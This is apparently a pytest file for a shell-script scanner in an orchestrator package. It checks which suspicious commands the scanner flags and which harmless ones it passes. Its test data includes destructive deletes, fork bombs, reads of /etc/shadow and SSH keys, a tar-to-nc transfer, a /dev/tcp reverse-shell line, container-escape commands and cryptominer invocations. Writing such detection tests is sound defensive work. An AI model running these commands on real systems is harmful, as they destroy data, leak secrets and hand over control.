"""The script policy: each kind of suspicious command is found, and honest scripts are not."""

import time

import pytest

from orchestrator_crds.script import LONGEST_LINE, LONGEST_SCRIPT, MOST_FINDINGS, PATTERNS, findings

BAD = [
    ("rm -rf /", "destructive command"),
    ("rm -r ~/data", "destructive command"),
    ('rm -f "$HOME/x"', "destructive command"),
    ("mkfs.ext4 disk", "destructive command"),
    ("dd if=/dev/zero of=big", "destructive command"),
    ("cat /etc/shadow", "system file"),
    ("cat /proc/self/environ", "system file"),
    ("cat ~/.ssh/id_rsa", "secret"),
    ("echo ${AWS_SECRET_ACCESS_KEY}", "secret"),
    ("x=$(curl -s http://x)", "network tool"),
    ("tar c . | nc host 1", "network tool"),
    ("exec 3<>/dev/tcp/host/1", "reverse shell"),
    ("sudo make install", "privilege escalation"),
    ("chmod u+s tool", "privilege escalation"),
    ("chmod 4755 tool", "privilege escalation"),
    ("chmod -R 777 .", "privilege escalation"),
    ("nsenter -t 1", "container escape"),
    ("ls /var/run/docker.sock", "container escape"),
    ("modprobe x", "kernel"),
    ("echo cm0= | base64 -d | sh", "obfuscation"),
    ('eval "$x"', "obfuscation"),
    ("python3.11 -c 'import os'", "obfuscation"),
    ("crontab -l", "persistence"),
    ("true; at now + 1 minute", "persistence"),
    (":(){ :|:& };:", "fork bomb"),
    ("b() { b | b & }; b", "fork bomb"),
    ("stress --cpu 8", "exhaustion"),
    ("./miner -o stratum+tcp://pool", "miner"),
    ("xmrig", "miner"),
]


@pytest.mark.parametrize(("line", "kind"), BAD, ids=[line for line, _ in BAD])
def test_what_is_found(line: str, kind: str) -> None:
    found = findings(f"#!/bin/bash\n{line}\n")
    assert any(f.startswith(f"line 2: {kind} (") for f in found), found


def test_every_kind_has_an_example_above() -> None:
    assert {kind for _, kind in BAD} == set(PATTERNS)


def test_what_is_not_looked_at_is_found() -> None:
    """Found in review: behind enough spaces, or enough lines, a script could hold anything."""
    honest = "true " * (LONGEST_LINE // 5)
    assert findings(honest) == ()
    assert findings(f"{honest} {' ' * LONGEST_LINE}; sudo x") == (
        f"line 1: too long (only its first {LONGEST_LINE} characters were looked at)",
    )
    padded = "\n" * LONGEST_SCRIPT
    assert findings(padded) == ()
    assert findings(f"{padded}sudo x") == (
        f"too long: only the first {LONGEST_SCRIPT} characters were looked at",
    )


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf out/tmp ./a",
        "rm -f /tmp/x",
        "# curl is not used here, see /etc/passwd",
        "./curl.sh --ssh",
        "haddock3 run.toml > log 2>/dev/null",
        "chmod 755 tool; chmod +x tool; chmod 0644 x",
        "echo at the end",
        "trap 'echo \"$?\" > .orchestrator.exit' EXIT",
        "python3 dock.py -c config",
        "gdock score --receptor 2oob_A.pdb # at home",
        "evaluate x",
        "mount=3",
    ],
)
def test_what_is_not(line: str) -> None:
    assert findings(line) == ()


def test_the_list_is_bounded() -> None:
    assert len(findings("sudo x\n" * 1000)) == MOST_FINDINGS


@pytest.mark.parametrize("piece", ["rm a ", "dd ", "a", "x(){", "$A_", "base64 ", "chmod -a ", " "])
def test_the_time_for_a_line_grows_with_its_length_alone(piece: str) -> None:
    # As many characters in lines that are sixteen times as long: a pattern that looks at every
    # place from every other would take sixteen times as long.
    def seconds(line: int) -> float:
        text = (piece * line)[: line - 1] + "\n"
        return min(_timed(text * (LONGEST_SCRIPT // 4 // line)) for _ in range(3))

    assert seconds(LONGEST_LINE) < 8 * max(seconds(LONGEST_LINE // 16), 1e-3)


def _timed(text: str) -> float:
    started = time.process_time()
    findings(text)
    return time.process_time() - started
